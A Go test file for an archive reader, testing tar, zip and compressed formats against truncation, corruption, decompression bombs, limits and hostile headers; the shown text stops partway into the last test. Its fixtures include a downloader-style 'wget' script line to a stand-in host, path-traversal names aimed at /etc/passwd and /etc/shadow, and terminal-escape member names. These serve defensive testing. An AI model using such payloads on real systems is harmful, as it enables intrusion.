package downloads

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/bzip2"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	"io/fs"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"github.com/klauspost/compress/gzip"
	"github.com/klauspost/compress/zstd"
)

// tightLimits bite early, so that a bomb is told within a test.
var tightLimits = limits{members: 1000, bytes: 16 << 20, ratio: 200, free: 2 << 20}

// got is a member as it was handed over.
type got struct {
	Name    string
	Mode    fs.FileMode
	Link    bool
	Size    int64
	ModTime time.Time
	Content string
	Err     string // of reading
}

var testTime = time.Unix(1_700_000_000, 0)

// tree is what the archives of these tests hold: contents that compress, that
// do not, that are empty, and that are longer than any buffer.
func tree() []got {
	random := make([]byte, 16_000)
	rand.NewChaCha8([32]byte{1}).Read(random)
	list := []got{{Name: "downloads/", Mode: fs.ModeDir}}
	for i, content := range []string{
		"#!/bin/sh\ncd /tmp; wget http://192.0.2.1/x\n",
		"",
		string(random),
		strings.Repeat("root:root\n", 7000),
		string(random[:1000]),
		strings.Repeat("\x00", 3000),
		string(random[5000:5512]),
	} {
		list = append(list, got{Name: fmt.Sprintf("downloads/%064x", i), Content: content})
	}
	for i := range list {
		list[i].Size, list[i].ModTime = int64(len(list[i].Content)), testTime
	}
	return list
}

func makeTar(t testing.TB, list []got, format tar.Format) []byte {
	t.Helper()
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	for _, m := range list {
		h := &tar.Header{Name: m.Name, Typeflag: tar.TypeReg, Size: int64(len(m.Content)), Mode: 0o600, ModTime: m.ModTime, Format: format}
		if m.Mode.IsDir() {
			h.Typeflag = tar.TypeDir
		}
		must(t, w.WriteHeader(h))
		_, err := io.WriteString(w, m.Content)
		must(t, err)
	}
	must(t, w.Close())
	return b.Bytes()
}

func makeZip(t testing.TB, list []got, method uint16) []byte {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	w.RegisterCompressor(zstd.ZipMethodWinZip, zstd.ZipCompressor())
	for _, m := range list {
		h := &zip.FileHeader{Name: m.Name, Method: method, Modified: m.ModTime}
		h.SetMode(m.Mode | 0o600)
		f, err := w.CreateHeader(h)
		must(t, err)
		_, err = io.WriteString(f, m.Content)
		must(t, err)
	}
	must(t, w.Close())
	return b.Bytes()
}

func gz(data ...[]byte) []byte {
	var b bytes.Buffer
	for _, d := range data {
		w := gzip.NewWriter(&b)
		w.Write(d)
		w.Close()
	}
	return b.Bytes()
}

func zst(data ...[]byte) []byte {
	w, err := zstd.NewWriter(nil, zstd.WithEncoderConcurrency(1), zstd.WithWindowSize(4<<10))
	if err != nil {
		panic(err)
	}
	var b []byte
	for _, d := range data {
		b = w.EncodeAll(d, b)
	}
	return b
}

// bz returns the tree as it was packed by bzip2, which Go only reads:
// makeTar(tree()), every 8,000 bytes with "bzip2 -1", one behind the other.
func bz(t testing.TB) []byte {
	t.Helper()
	data, err := os.ReadFile("testdata/archive/tree.tar.bz2")
	must(t, err)
	content, err := io.ReadAll(bzip2.NewReader(bytes.NewReader(data)))
	must(t, err)
	if !bytes.Equal(content, makeTar(t, tree(), tar.FormatGNU)) {
		t.Fatal("testdata/archive/tree.tar.bz2 is not the tree of these tests")
	}
	return data
}

// header is a tar header by hand, for what package tar does not write.
func header(name string, typeflag byte, size int64, change func([]byte)) []byte {
	b := make([]byte, 512)
	copy(b, name)
	copy(b[100:], "0000600\x000000000\x000000000\x00")
	octal(b[124:136], size)
	octal(b[136:148], testTime.Unix())
	b[156] = typeflag
	copy(b[257:], "ustar  \x00")
	if change != nil {
		change(b)
	}
	copy(b[148:], "        ")
	sum := 0
	for _, c := range b {
		sum += int(c)
	}
	copy(b[148:], fmt.Sprintf("%06o\x00 ", sum))
	return b
}

// octal writes a number, or its bytes if it has too many digits.
func octal(field []byte, n int64) {
	if s := fmt.Sprintf("%0*o", len(field)-1, n); len(s) < len(field) {
		copy(field, s)
		return
	}
	clear(field)
	binary.BigEndian.PutUint64(field[len(field)-8:], uint64(n))
	field[0] |= 0x80
}

func pad(b []byte) []byte { return append(b, make([]byte, -len(b)&511)...) }

// pax is an extended header with records.
func pax(records ...string) []byte {
	var b []byte
	for i := 0; i < len(records); i += 2 {
		rest := " " + records[i] + "=" + records[i+1] + "\n"
		n := len(rest)
		for len(fmt.Sprint(n))+len(rest) != n {
			n = len(fmt.Sprint(n)) + len(rest)
		}
		b = append(b, fmt.Sprint(n)+rest...)
	}
	return append(header("pax", 'x', int64(len(b)), func(h []byte) { copy(h[257:], "ustar\x0000") }), pad(b)...)
}

var endMark = make([]byte, 1024)

func join(parts ...[]byte) []byte { return bytes.Join(parts, nil) }

func must(t testing.TB, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func openData(t testing.TB, data []byte) *os.File {
	t.Helper()
	path := filepath.Join(t.TempDir(), "archive")
	must(t, os.WriteFile(path, data, 0o600))
	f, err := os.Open(path)
	must(t, err)
	t.Cleanup(func() { f.Close() })
	return f
}

// members reads an archive, with every member's content.
func members(t testing.TB, data []byte, lim limits) ([]got, error) {
	t.Helper()
	var list []got
	err := readArchive(context.Background(), openData(t, data), lim, func(m *member) error {
		content, err := io.ReadAll(m.r)
		g := got{m.name, m.mode, m.link, m.size, m.modTime, string(content), ""}
		if err != nil {
			g.Err = err.Error()
		}
		list = append(list, g)
		return nil
	})
	return list, err
}

func wantMembers(t testing.TB, got, want []got) {
	t.Helper()
	if d := cmp.Diff(short(want), short(got)); d != "" {
		t.Errorf("members, -want +got:\n%s", d)
	}
}

// short makes what is compared fit to be shown.
func short(list []got) []got {
	list = append([]got(nil), list...)
	for i := range list {
		if c := list[i].Content; len(c) > 100 {
			list[i].Content = fmt.Sprintf("%d bytes, %08x", len(c), crc32.ChecksumIEEE([]byte(c)))
		}
		if !list[i].ModTime.IsZero() {
			list[i].ModTime = list[i].ModTime.UTC()
		}
	}
	return list
}

func wantError(t testing.TB, err, want error, words ...string) {
	t.Helper()
	if !errors.Is(err, want) {
		t.Fatalf("error %v, want one that is %q", err, want)
	}
	for _, w := range words {
		if !strings.Contains(err.Error(), w) {
			t.Errorf("error %q does not say %q", err, w)
		}
	}
}

func wantArchive(t testing.TB, data []byte, want bool) {
	t.Helper()
	f := openData(t, data)
	_, err := f.Seek(7, io.SeekStart)
	must(t, err)
	is, err := isArchive(f)
	if is != want || err != nil {
		t.Errorf("isArchive: %v, %v, want %v", is, err, want)
	}
	if at, _ := f.Seek(0, io.SeekCurrent); at != 7 {
		t.Errorf("isArchive moved the file's position to %d", at)
	}
}

func TestArchiveForms(t *testing.T) {
	t.Parallel()
	ustar := makeTar(t, tree(), tar.FormatUSTAR)
	half := len(ustar) / 2
	v7 := bytes.Clone(ustar)
	for at := 0; ; {
		i := bytes.Index(v7[at:], []byte("ustar\x0000"))
		if i < 0 {
			break
		}
		at += i
		h := v7[at-257:][:512]
		var size int64
		fmt.Sscanf(string(h[124:135]), "%o", &size)
		copy(h, header(string(bytes.TrimRight(h[:100], "\x00")), h[156], size, func(b []byte) { clear(b[257:]) }))
	}
	zeros := make([]byte, 1000)
	for _, tt := range []struct {
		name string
		data []byte
	}{
		{"ustar", ustar},
		{"PAX", makeTar(t, tree(), tar.FormatPAX)},
		{"GNU", makeTar(t, tree(), tar.FormatGNU)},
		{"v7", v7},
		{"one tar behind the other", join(makeTar(t, tree()[:3], tar.FormatGNU), make([]byte, 4096), makeTar(t, tree()[3:], tar.FormatPAX))},
		{"gzip", gz(ustar)},
		{"gzip in two", gz(ustar[:half], ustar[half:])},
		{"gzip with empty members and zeros", join(gz(nil), gz(nil, ustar[:1], nil), zeros, gz(ustar[1:], nil), zeros)},
		{"two tars, gzipped each", gz(makeTar(t, tree()[:3], tar.FormatGNU), makeTar(t, tree()[3:], tar.FormatGNU))},
		{"bzip2", bz(t)},
		{"zstd", zst(ustar)},
		{"zstd in two, and zeros", join(zst(ustar[:half], ustar[half:]), zeros)},
		{"zstd with frames to skip", join([]byte("\x50\x2a\x4d\x18\x04\x00\x00\x00abcd"), zst(ustar), []byte("\x5f\x2a\x4d\x18\x00\x00\x00\x00"))},
		{"zip, stored", makeZip(t, tree(), zip.Store)},
		{"zip, deflated", makeZip(t, tree(), zip.Deflate)},
		{"zip, zstd", makeZip(t, tree(), zstd.ZipMethodWinZip)},
		{"zip with garbage behind", join(makeZip(t, tree(), zip.Deflate), []byte("garbage"))},
	} {
		t.Run(tt.name, func(t *testing.T) {
			wantArchive(t, tt.data, true)
			list, err := members(t, tt.data, defaultLimits)
			must(t, err)
			wantMembers(t, list, tree())
		})
	}
}

func TestArchiveOfTheSystem(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	must(t, os.Mkdir(filepath.Join(dir, "downloads"), 0o700))
	want := map[string]string{}
	for _, m := range tree()[1:] {
		path := filepath.Join(dir, m.Name)
		must(t, os.WriteFile(path, []byte(m.Content), 0o600))
		must(t, os.Chtimes(path, testTime, testTime))
		want[m.Name] = m.Content
	}
	sparse, err := os.Create(filepath.Join(dir, "downloads/sparse"))
	must(t, err)
	_, err = sparse.WriteAt([]byte("in the middle"), 1<<20)
	must(t, err)
	must(t, sparse.Truncate(2<<20))
	must(t, sparse.Close())
	must(t, os.Chtimes(sparse.Name(), testTime, testTime))
	content, err := os.ReadFile(sparse.Name())
	must(t, err)
	want["downloads/sparse"] = string(content)

	for _, args := range [][]string{
		{"tar", "-cf"}, {"tar", "--format=v7", "-cf"}, {"tar", "--format=ustar", "-cf"}, {"tar", "--format=posix", "-cf"},
		{"tar", "-Scf"}, {"tar", "--format=posix", "-Scf"}, {"tar", "--format=posix", "--sparse-version=0.1", "-Scf"},
		{"tar", "-czf"}, {"tar", "-cjf"}, {"tar", "--zstd", "-cf"},
		{"zip", "-qr"}, {"zip", "-qr0"}, {"zip", "-qr", "-fz"},
	} {
		t.Run(strings.Join(args, " "), func(t *testing.T) {
			for _, tool := range map[string][]string{"-czf": {"tar", "gzip"}, "-cjf": {"tar", "bzip2"}, "--zstd": {"tar", "zstd"}, args[1]: args[:1]}[args[1]] {
				if _, err := exec.LookPath(tool); err != nil {
					t.Skipf("NOT TESTED: there is no %s here", tool)
				}
			}
			path := filepath.Join(t.TempDir(), "archive.zip")
			cmd := exec.Command(args[0], append(args[1:], path, "downloads")...)
			cmd.Dir = dir
			if out, err := cmd.CombinedOutput(); err != nil {
				t.Fatalf("%v: %s", err, out)
			}
			data, err := os.ReadFile(path)
			must(t, err)
			wantArchive(t, data, true)
			list, err := members(t, data, defaultLimits)
			must(t, err)
			found := map[string]string{}
			for _, m := range list {
				if m.Mode.IsRegular() {
					found[m.Name] = m.Content
					if !m.ModTime.Equal(testTime) || m.Size != int64(len(m.Content)) || m.Err != "" {
						t.Errorf("%s: time %v, size %d of %d, error %q", m.Name, m.ModTime, m.Size, len(m.Content), m.Err)
					}
				}
			}
			if d := cmp.Diff(want, found); d != "" {
				t.Errorf("-want +got:\n%.2000s", d)
			}
		})
	}
}

func TestNoArchive(t *testing.T) {
	t.Parallel()
	random := []byte(tree()[3].Content)
	whole := makeTar(t, tree(), tar.FormatGNU)
	for name, data := range map[string][]byte{
		"nothing":                      nil,
		"a byte":                       {0x1f},
		"text":                         []byte(strings.Repeat("BZh9 is a word\n", 100)),
		"noise":                        random,
		"one block of zeros":           make([]byte, 512),
		"zeros, not in blocks":         make([]byte, 1025),
		"a megabyte of zeros":          make([]byte, 1<<20),
		"a gzipped script":             gz([]byte(strings.Repeat("echo\n", 1000))),
		"gzipped noise":                gz(random),
		"a gzipped megabyte of zeros":  gz(make([]byte, 1<<20)),
		"a gzipped tar, gzipped":       gz(gz(whole)),
		"gzip of nothing":              gz(nil),
		"gzip, cut off in its header":  gz(whole)[:5],
		"gzip, cut off in a block":     gz(whole)[:60],
		"zstd of text":                 zst([]byte(strings.Repeat("echo\n", 1000))),
		"zstd that skips 4 GB":         []byte("\x50\x2a\x4d\x18\xff\xff\xff\xff" + strings.Repeat("x", 1000)),
		"gzip without end and content": join(bytes.Repeat(gz(nil), 1<<17), gz(whole)),
		"a tar header with a bit off":  join([]byte{whole[0] ^ 1}, whole[1:512]),
		"a tar header cut off":         whole[:511],
		"xz":                           []byte("\xfd7zXZ\x00" + strings.Repeat("x", 1000)),
		"no checksum":                  bytes.Repeat([]byte{0xff, 1}, 256),
	} {
		t.Run(name, func(t *testing.T) { wantArchive(t, data, false) })
	}
	f := openData(t, whole)
	f.Close()
	if is, err := isArchive(f); is || !errors.Is(err, os.ErrClosed) {
		t.Errorf("a closed file: %v, %v", is, err)
	}
	wantError(t, readArchive(context.Background(), f, defaultLimits, nil), os.ErrClosed)
}

func TestArchiveWithoutMembers(t *testing.T) {
	for name, data := range map[string][]byte{
		"Go's tar":  endMark,
		"GNU's tar": make([]byte, 10240),
		"gzip":      gz(make([]byte, 10240)),
		"zstd":      zst(endMark),
		"zip":       makeZip(t, nil, zip.Store),
	} {
		t.Run(name, func(t *testing.T) {
			wantArchive(t, data, true)
			list, err := members(t, data, defaultLimits)
			must(t, err)
			wantMembers(t, list, nil)
		})
	}
}

func TestArchiveTypes(t *testing.T) {
	link := func(b []byte) { copy(b[157:], "/etc/passwd") }
	size := int64(1 << 40) // claimed by what has no content
	data := join(
		header("hard", tar.TypeLink, size, link),
		header("sym", tar.TypeSymlink, size, link),
		header("char", tar.TypeChar, size, nil),
		header("block", tar.TypeBlock, 0, nil),
		header("dir", tar.TypeDir, 0, nil),
		header("fifo", tar.TypeFifo, 0, nil),
		header("contiguous", tar.TypeCont, 4, nil), pad([]byte("cont")),
		header("volume", 'V', 0, nil),
		header("listed", 'D', 4, nil), pad([]byte("Ya\x00\x00")),
		header("solaris", 'X', 4, nil), pad([]byte("what")),
		header("old", 0, 3, nil), pad([]byte("old")),
		header("olddir/", 0, 0, nil),
		// The mode bits say directory, the type does not.
		header("liar", tar.TypeReg, 4, func(b []byte) { copy(b[100:], "0040777\x00") }), pad([]byte("file")),
		header("no time", tar.TypeReg, 0, func(b []byte) { octal(b[136:148], 0) }),
		header("no calendar", tar.TypeReg, 0, func(b []byte) { octal(b[136:148], 1<<62) }),
		header("before", tar.TypeReg, 0, func(b []byte) { copy(b[136:148], "\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\x00") }),
		endMark,
	)
	list, err := members(t, data, defaultLimits)
	must(t, err)
	wantMembers(t, list, []got{
		{Name: "hard", Link: true, Size: size, ModTime: testTime},
		{Name: "sym", Mode: fs.ModeSymlink, Size: size, ModTime: testTime},
		{Name: "char", Mode: fs.ModeDevice | fs.ModeCharDevice, Size: size, ModTime: testTime},
		{Name: "block", Mode: fs.ModeDevice, ModTime: testTime},
		{Name: "dir", Mode: fs.ModeDir, ModTime: testTime},
		{Name: "fifo", Mode: fs.ModeNamedPipe, ModTime: testTime},
		{Name: "contiguous", Size: 4, Content: "cont", ModTime: testTime},
		{Name: "volume", Mode: fs.ModeIrregular, ModTime: testTime},
		{Name: "listed", Mode: fs.ModeDir, Size: 4, Content: "Ya\x00\x00", ModTime: testTime},
		{Name: "solaris", Mode: fs.ModeIrregular, Size: 4, Content: "what", ModTime: testTime},
		{Name: "old", Size: 3, Content: "old", ModTime: testTime},
		{Name: "olddir/", Mode: fs.ModeDir, ModTime: testTime},
		{Name: "liar", Size: 4, Content: "file", ModTime: testTime},
		{Name: "no time"},
		{Name: "no calendar"},
		{Name: "before"},
	})

	types := []got{
		{Name: "sym", Mode: fs.ModeSymlink, Size: 11, Content: "/etc/passwd", ModTime: testTime},
		{Name: "fifo", Mode: fs.ModeNamedPipe, ModTime: testTime},
		{Name: "char", Mode: fs.ModeDevice | fs.ModeCharDevice, ModTime: testTime},
		{Name: "no time"},
	}
	list, err = members(t, makeZip(t, types, zip.Deflate), defaultLimits)
	must(t, err)
	wantMembers(t, list, types)
}

func TestArchiveNames(t *testing.T) {
	var want []got
	for _, name := range []string{
		"../../etc/passwd", "/etc/shadow", "a//../b", "..", ".", "C:\\x", "\\\\host\\x",
		"\xff\xfe\x80", "\x1b]8;;http://x\x07", "\u202egpj", "a\nb", strings.Repeat("n", 65535), strings.Repeat("d/", 5000) + "x",
	} {
		want = append(want, got{Name: name, Size: 1, Content: "x", ModTime: testTime})
	}
	for _, godebug := range []string{"", "tarinsecurepath=0,zipinsecurepath=0"} {
		t.Setenv("GODEBUG", godebug)
		list, err := members(t, makeTar(t, want, tar.FormatGNU), defaultLimits)
		must(t, err)
		wantMembers(t, list, want)
		nul := append(want, got{Name: "a\x00b", Size: 1, Content: "x", ModTime: testTime}, got{Size: 1, Content: "x", ModTime: testTime})
		list, err = members(t, makeZip(t, nul, zip.Store), defaultLimits)
		must(t, err)
		wantMembers(t, list, nul)
	}

	// A name ends at a NUL in tar, and none can be in PAX.
	data := join(header("a\x00b", tar.TypeReg, 1, nil), pad([]byte("x")), pax("path", "a\x00b"), header("c", tar.TypeReg, 0, nil), endMark)
	list, err := members(t, data, defaultLimits)
	wantMembers(t, list, []got{{Name: "a", Size: 1, Content: "x", ModTime: testTime}})
	wantError(t, err, errCorrupt, `after member "a"`)

	// In an error they are on one line, harmless and not long.
	for _, name := range []string{"\x1b[2J\n\xff", strings.Repeat("n", 65535)} {
		data := makeTar(t, []got{{Name: name, Content: strings.Repeat("x", 2000)}}, tar.FormatGNU)
		_, err := members(t, data[:len(data)-2048], defaultLimits)
		wantError(t, err, errCutOff, `member "`)
		if s := err.Error(); strings.ContainsAny(s, "\x1b\n") || !utf8.ValidString(s) || len(s) > 400 {
			t.Errorf("%q", s)
		}
	}
}

// What is cut off gives every member that is whole in what can be decompressed,
// and says so.
func TestArchiveCutOff(t *testing.T) {
	t.Parallel()
	gnu := makeTar(t, tree(), tar.FormatGNU)
	for _, tt := range []struct {
		name string
		data []byte
	}{{"tar", gnu}, {"gzip", gz(gnu)}, {"bzip2", bz(t)}, {"zstd", zst(gnu)}, {"zip", makeZip(t, tree(), zip.Deflate)}} {
		t.Run(tt.name, func(t *testing.T) {
			most := 0
			for i := range 17 {
				n := len(tt.data) * i / 16
				if i == 16 {
					n = len(tt.data) - 1
					if tt.name == "tar" {
						n -= 1024 // to where one block of the end mark begins
					}
				}
				list, err := members(t, tt.data[:n], defaultLimits)
				if tt.name == "zip" && n > 0 {
					wantError(t, err, errCutOff, "directory")
					wantMembers(t, list, nil)
					continue
				}
				wantError(t, err, errCutOff)
				whole := 0
				for _, m := range list {
					if m.Err == "" {
						whole++
					} else if m.Err != err.Error() || !strings.Contains(m.Err, m.Name) {
						t.Errorf("%d: %v, and the reader of %s said %s", i, err, m.Name, m.Err)
					}
				}
				wantMembers(t, list[:whole], tree()[:whole])
				if whole < len(list)-1 {
					t.Errorf("%d: members after one that is cut off: %d of %d whole", i, whole, len(list))
				}
				if least := wholeIn(plainOf(t, tt.name, tt.data[:n])); whole < least {
					t.Errorf("%d: %d members, and %d are whole", i, whole, least)
				}
				most = max(most, whole)
			}
			if tt.name != "zip" && most < len(tree())-2 {
				t.Errorf("%d members at the most", most)
			}
		})
	}
}

// plainOf decompresses what can be.
func plainOf(t *testing.T, form string, data []byte) []byte {
	var r io.Reader = bytes.NewReader(data)
	switch form {
	case "gzip":
		z, err := gzip.NewReader(r)
		if err != nil {
			return nil
		}
		r = z
	case "bzip2":
		r = bzip2.NewReader(r)
	case "zstd":
		z, err := zstd.NewReader(r)
		must(t, err)
		defer z.Close()
		r = z
	}
	content, _ := io.ReadAll(r)
	return content
}

// wholeIn counts the members that are whole in the beginning of the tree's tar.
func wholeIn(content []byte) int {
	end := 0
	for i, m := range tree() {
		end += 512 + len(m.Content)
		if end > len(content) {
			return i
		}
		end += -end & 511
	}
	return len(tree())
}

func TestArchiveCutOffBetweenMembers(t *testing.T) {
	data := makeTar(t, tree(), tar.FormatGNU)
	for _, n := range []int{len(data) - 1024, len(data) - 512} {
		for name, data := range map[string][]byte{"tar": data[:n], "gzip": gz(data[:n]), "zstd": zst(data[:n])} {
			list, err := members(t, data, defaultLimits)
			wantMembers(t, list, tree())
			wantError(t, err, errCutOff, "after member", tree()[7].Name)
			if t.Failed() {
				t.Fatal(name, n)
			}
		}
	}
}

func TestArchiveFlipped(t *testing.T) {
	t.Parallel()
	gnu := makeTar(t, tree(), tar.FormatGNU)
	want := tree()
	for _, tt := range []struct {
		name string
		data []byte
	}{{"gzip", gz(gnu)}, {"bzip2", bz(t)}, {"zstd", zst(gnu)}, {"stored", makeZip(t, want, zip.Store)}, {"deflated", makeZip(t, want, zip.Deflate)}} {
		t.Run(tt.name, func(t *testing.T) {
			for i := range 16 {
				data := bytes.Clone(tt.data)
				at := len(data)*i/16 + 20
				data[at] ^= 1 << (i % 8)
				list, err := members(t, data, defaultLimits)
				var fails []string
				for k, m := range list {
					if k < len(want) && m.Name == want[k].Name && m.Content == want[k].Content {
						continue
					}
					fails = append(fails, m.Name+": "+m.Err)
				}
				if err == nil && len(fails) == 0 && !bytes.Contains(data[max(0, at-200):at+20], []byte("downloads/")) {
					t.Errorf("%d: byte %d is not told", i, at)
				}
				if strings.HasSuffix(tt.name, "ed") && err == nil && len(fails) > 1 {
					t.Errorf("%d: more than one member of a zip: %q", i, fails)
				}
			}
		})
	}
	// A reader that takes as many bytes as are claimed is told as well.
	data := makeZip(t, want, zip.Store)
	data[bytes.Index(data, []byte("#!/bin/sh"))] ^= 1
	told := 0
	must(t, readArchive(context.Background(), openData(t, data), defaultLimits, func(m *member) error {
		if _, err := io.ReadFull(m.r, make([]byte, m.size)); err != nil {
			told++
			wantError(t, err, errCorrupt, want[1].Name)
		}
		return nil
	}))
	if told != 1 {
		t.Errorf("%d members told, want 1", told)
	}
}

func TestArchiveGarbageBehind(t *testing.T) {
	t.Parallel()
	gnu := makeTar(t, tree(), tar.FormatGNU)
	for name, data := range map[string][]byte{
		"tar":             join(gnu, []byte("garbage")),
		"tar, a block":    join(gnu, bytes.Repeat([]byte("garbage!"), 64)),
		"tar, later":      join(gnu, make([]byte, 100_000), []byte("garbage")),
		"gzip":            join(gz(gnu), []byte("garbage")),
		"gzip, after 0s":  join(gz(gnu), make([]byte, 100_000), []byte("garbage")),
		"bzip2":           join(bz(t), []byte("garbage")),
		"zstd":            join(zst(gnu), []byte("garbage")),
		"zstd, after 0s":  join(zst(gnu), make([]byte, 100_000), []byte("garbage")),
		"inside gzip":     gz(gnu, []byte("garbage")),
		"gzip's checksum": join(gz(gnu)[:len(gz(gnu))-8], make([]byte, 8)),
	} {
		t.Run(name, func(t *testing.T) {
			list, err := members(t, data, defaultLimits)
			wantMembers(t, list, tree())
			wantError(t, err, errCorrupt, "after")
		})
	}
}

var zeros = make([]byte, 4<<20)

func TestArchiveBombs(t *testing.T) {
	const claim = 10 << 30
	bz, err := os.ReadFile("testdata/archive/zeros.tar.bz2") // "head -c 64M /dev/zero", in a tar
	must(t, err)
	head := join(header("before", tar.TypeReg, 1, nil), pad([]byte("x")), header("bomb", tar.TypeReg, claim, nil))
	random := make([]byte, 50_000)
	rand.NewChaCha8([32]byte{2}).Read(random)
	zipBomb := makeZip(t, []got{{Name: "before", Size: 1, Content: "x"}, {Name: "bomb", Content: string(zeros)}}, zip.Deflate)
	for _, tt := range []struct {
		name  string
		data  []byte
		words string
	}{
		{"gzip", join(gz(head), bytes.Repeat(gz(zeros), 2560)), "2.0 MiB"},
		{"zstd", join(zst(head), bytes.Repeat(zst(zeros), 2560)), "2.0 MiB"},
		{"bzip2", bz, "2.0 MiB"},
		{"zip", zipBomb, "2.0 MiB"},
		{"in the padding", join(gz(head[:1024], endMark), bytes.Repeat(gz(zeros), 2560)), "2.0 MiB"},
		{"in a header", gz(head[:1024], header("bomb", 'x', claim, nil), zeros), "header field too long"},
		// What came before would pay for as much as three of them.
		{"behind what does not compress", gz(head[:1024], header("random", tar.TypeReg, int64(len(random)), nil), pad(random),
			header("bomb", tar.TypeReg, claim, nil), zeros, zeros), "this member"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var total, before runtime.MemStats
			runtime.ReadMemStats(&before)
			f, delivered, named := openData(t, tt.data), int64(0), false
			info, err := f.Stat()
			must(t, err)
			err = readArchive(context.Background(), f, tightLimits, func(m *member) error {
				n, err := io.Copy(io.Discard, m.r)
				delivered += n
				named = named || err != nil && strings.Contains(err.Error(), `"bomb"`)
				return nil
			})
			runtime.ReadMemStats(&total)
			if tt.words == "header field too long" {
				wantError(t, err, tar.ErrFieldTooLong)
			} else {
				wantError(t, err, errLimit, tt.words, "what came before is kept")
			}
			if most := tightLimits.free + tightLimits.ratio*min(info.Size(), 150_000); delivered > most {
				t.Errorf("%d bytes were handed over, want %d at the most", delivered, most)
			}
			if !named && tt.name != "in the padding" && tt.name != "in a header" {
				t.Errorf("%v does not name the member", err)
			}
			// All that was allocated, kept or not.
			if n := total.TotalAlloc - before.TotalAlloc; n > 24<<20 {
				t.Errorf("%d bytes were allocated", n)
			}
		})
	}
}

func TestArchiveLimits(t *testing.T) {
	t.Parallel()
	lim := tightLimits
	lim.members = 5
	for name, data := range map[string][]byte{
		"tar": gz(makeTar(t, tree(), tar.FormatGNU)),
		"zip": makeZip(t, tree(), zip.Deflate),
	} {
		list, err := members(t, data, lim)
		wantError(t, err, errLimit, "5")
		if name == "tar" {
			wantError(t, err, errLimit, "more than 5 members", "after member", tree()[4].Name)
			wantMembers(t, list, tree()[:5])
		}
		small := tightLimits
		small.bytes = 15_000
		list, err = members(t, data, small)
		wantError(t, err, errLimit, "more than 15,000 decompressed bytes", `member "`+tree()[3].Name)
		if len(list) != 4 || len(list[3].Content) > 15_000 {
			t.Errorf("%s: %d members", name, len(list))
		}
		wantMembers(t, list[:3], tree()[:3])
	}

	// A bomb in pieces.
	pieces := make([]got, 10)
	for i := range pieces {
		pieces[i] = got{Name: fmt.Sprint(i), Content: string(zeros[:1<<20])}
	}
	for _, data := range [][]byte{gz(makeTar(t, pieces, tar.FormatGNU)), makeZip(t, pieces, zip.Deflate)} {
		list, err := members(t, data, tightLimits)
		wantError(t, err, errLimit, "it made ")
		if n := len(list); n < 3 || n > 6 {
			t.Errorf("%d members", n)
		}
	}

	// Members without end, and a stream of headers that belong to none.
	empty := bytes.Repeat(header("x", tar.TypeReg, 0, nil), 100)
	list, err := members(t, bytes.Repeat(gz(empty), 20), tightLimits)
	wantError(t, err, errLimit, "more than 1,000 members")
	if len(list) != 1000 {
		t.Errorf("%d members", len(list))
	}
	global := bytes.Repeat(header("x", 'g', 0, nil), 100)
	list, err = members(t, bytes.Repeat(gz(global), 20), tightLimits)
	wantError(t, err, errLimit, "more than 1,000 members", "before the first member")
	wantMembers(t, list, nil)
	list, err = members(t, bytes.Repeat(gz(bytes.Repeat(pax("a", "b"), 100)), 200), tightLimits)
	wantError(t, err, errLimit, "decompressed bytes", "before the first member")
	wantMembers(t, list, nil)

	// The defaults let pass what a sensor can have: a speed test's file of zeros.
	size := 8 * int64(len(zeros))
	data := join(zst(header("zeros", tar.TypeReg, size, nil)), bytes.Repeat(zst(zeros), 8), zst(endMark))
	must(t, readArchive(context.Background(), openData(t, data), defaultLimits, func(m *member) error {
		if n, err := io.Copy(io.Discard, m.r); n != size || err != nil {
			t.Errorf("%d bytes, %v", n, err)
		}
		return nil
	}))
}

// sparse is a terabyte with a few bytes at its beginning, in the ways to say it.
func sparse() map[string][]byte {
	const size = 1 << 40
	old := header("sparse", tar.TypeGNUSparse, 3, func(b []byte) {
		octal(b[386:398], 0)
		octal(b[398:410], 3)
		octal(b[410:422], size)
		octal(b[422:434], 0)
		octal(b[483:495], size)
	})
	v01 := pax("GNU.sparse.major", "0", "GNU.sparse.minor", "1", "GNU.sparse.numblocks", "1", "GNU.sparse.map", "0,3",
		"GNU.sparse.size", fmt.Sprint(size), "GNU.sparse.name", "sparse")
	v10 := pax("GNU.sparse.major", "1", "GNU.sparse.minor", "0", "GNU.sparse.realsize", fmt.Sprint(size), "GNU.sparse.name", "sparse")
	return map[string][]byte{
		"GNU":     join(old, pad([]byte("abc"))),
		"PAX 0.1": join(v01, header("x", tar.TypeReg, 3, nil), pad([]byte("abc"))),
		"PAX 1.0": join(v10, header("x", tar.TypeReg, 515, nil), pad([]byte("1\n0\n3\n")), pad([]byte("abc"))),
	}
}

func TestArchiveSparse(t *testing.T) {
	t.Parallel()
	for name, part := range sparse() {
		t.Run(name, func(t *testing.T) {
			data := join(header("before", tar.TypeReg, 1, nil), pad([]byte("x")), part, header("after", tar.TypeReg, 1, nil), pad([]byte("y")), endMark)
			for _, take := range []int64{0, 3, 1 << 20} { // as much as no limit forbids
				var names string
				must(t, readArchive(context.Background(), openData(t, data), tightLimits, func(m *member) error {
					names += m.name + " "
					if m.name == "sparse" && m.size != 1<<40 {
						t.Errorf("size %d", m.size)
					}
					_, err := io.CopyN(io.Discard, m.r, min(take, m.size))
					return err
				}))
				if names != "before sparse after " {
					t.Errorf("members %s", names)
				}
			}
			list, err := members(t, data, tightLimits)
			wantError(t, err, errLimit, `member "sparse"`, "2.0 MiB")
			if len(list) != 2 || !strings.HasPrefix(list[1].Content, "abc\x00") || int64(len(list[1].Content)) > tightLimits.free+tightLimits.ratio*int64(len(data)) {
				t.Errorf("%d members", len(list))
			}
			lim := tightLimits
			lim.bytes, lim.ratio = 1<<20, 1<<30
			_, err = members(t, data, lim)
			wantError(t, err, errLimit, `member "sparse"`, "1,048,576")
		})
	}
}

func TestArchiveHostileHeaders(t *testing.T) {
	t.Parallel()
	before := join(header("before", tar.TypeReg, 1, nil), pad([]byte("x")))
	after := join(header("after", tar.TypeReg, 1, nil), pad([]byte("y")), endMark)
	for _, tt := range []struct {
		name string
